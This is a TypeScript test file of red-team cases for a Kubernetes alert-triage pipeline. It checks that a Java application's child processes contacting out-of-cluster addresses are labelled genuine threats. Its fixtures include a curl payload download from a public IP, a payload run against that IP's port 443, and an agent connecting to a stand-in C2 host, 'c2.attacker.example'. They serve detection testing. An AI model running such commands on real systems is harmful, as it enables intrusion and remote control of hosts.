/**
 * Red-team traps for workload-baseline's "a child of the container's entrypoint, doing its ordinary work" and "the same
 * command in several replicas of this workload": an application with a remote-code-execution hole (a deserialisation
 * bug: Runtime.exec, no shell in between, which redteam2 already judged) runs `curl http://198.51.100.7/p -o …` or a
 * payload given its server's address — on one replica, or on every replica a scanner reached. The entrypoint itself
 * connecting to that address would not have been excused (unexplainedEgress); its child, told the address on its
 * command line, was.
 * Fix: a child (or a replicated command) whose command line names a destination out of the cluster that neither the
 * cluster (pod, node, Service address) nor the pod's spec names is not the workload's ordinary work.
 * Left open (see the report): a child with no address on its command line (a dropped binary, `cat /etc/passwd`), and a
 * replicated connection the network sensor alone reports — a trojaned image calling home from every replica looks
 * like a feed the env (whose values the snapshot does not keep) names.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { correlate } from '../../../src/triage/correlate.js';
import { BatchCollector } from '../../../src/triage/batch.js';
import type { Alert, ProcessInfo } from '../../../src/alerts/model.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../../support/cluster.js';

const N = 'ip-10-0-1-10.ec2.internal';
const replica = (name: string, ip: string) =>
  pod(name, {
    namespace: 'shop',
    node: N,
    ip,
    owner: { kind: 'ReplicaSet', name: 'api-5f' },
    containers: [{ name: 'api', image: 'shop/api:1.2', command: ['java', '-jar', '/app/api.jar', '--rates=https://rates.partner.example/v1'] }],
  });
const a1 = replica('api-5f-aaaaa', '10.1.0.7');
const a2 = replica('api-5f-bbbbb', '10.1.0.8');
const index = indexOf([node(N, '10.0.1.10'), owner('ReplicaSet', 'api-5f', 'shop', { kind: 'Deployment', name: 'api' }), owner('Deployment', 'api', 'shop'), a1, a2]);
const java = { name: 'java', commandLine: 'java -jar /app/api.jar --rates=https://rates.partner.example/v1' };
const child = (p: typeof a1, process: ProcessInfo, title = 'Unexpected child process of a Java application') =>
  alert({ host: N, container: { id: containerIdOf(p) }, title, process, ancestors: [java, { name: 'containerd-shim-runc-v2' }] });

function onBothReplicas(make: (p: typeof a1) => Alert): string {
  const alerts = [make(a1), make(a2)];
  const batch = new BatchCollector();
  for (const a of alerts) batch.add(a, correlate(a, index), index);
  return triageAlert(alerts[0], { index, batch: batch.stats }).verdict.label;
}

describe("redteam4 workload-baseline: an application's child told to reach out of the cluster", () => {
  it('trap: curl downloading from a public address, a child of the java entrypoint, stays genuine (one replica and two)', () => {
    const curl = { name: 'curl', path: '/usr/bin/curl', commandLine: 'curl -s http://198.51.100.7/p -o /var/lib/app/p' };
    expect(triageAlert(child(a1, curl), { index }).verdict.label).toBe('genuine');
    expect(onBothReplicas((p) => child(p, curl))).toBe('genuine');
  });
  it('trap: a payload given its server as address:port, on every replica, stays genuine', () => {
    const payload = { name: 'p', path: '/var/lib/app/p', commandLine: '/var/lib/app/p -c 198.51.100.7:443' };
    expect(onBothReplicas((p) => child(p, payload))).toBe('genuine');
    const named = { name: 'agent', path: '/var/lib/app/agent', commandLine: '/var/lib/app/agent --server wss://c2.attacker.example/ws' };
    expect(onBothReplicas((p) => child(p, named))).toBe('genuine');
  });
  it('still explained: a child calling what the spec names, an in-cluster Service, or no address at all', () => {
    const partner = { name: 'curl', path: '/usr/bin/curl', commandLine: 'curl -s https://rates.partner.example/v1/eur' };
    expect(triageAlert(child(a1, partner), { index }).verdict.label).toBe('likely-false-positive');
    const svc = { name: 'curl', path: '/usr/bin/curl', commandLine: 'curl -s http://orders.shop.svc.cluster.local:8080/health' };
    expect(triageAlert(child(a1, svc), { index }).verdict.label).toBe('likely-false-positive');
    const pod = { name: 'curl', path: '/usr/bin/curl', commandLine: 'curl -s http://10.1.0.8:8080/health' };
    expect(triageAlert(child(a1, pod), { index }).verdict.label).toBe('likely-false-positive');
    const version = { name: 'jcmd', path: '/usr/bin/jcmd', commandLine: 'jcmd 1 VM.version 17.0.9.1' };
    expect(onBothReplicas((p) => child(p, version))).toBe('likely-false-positive');
  });
});
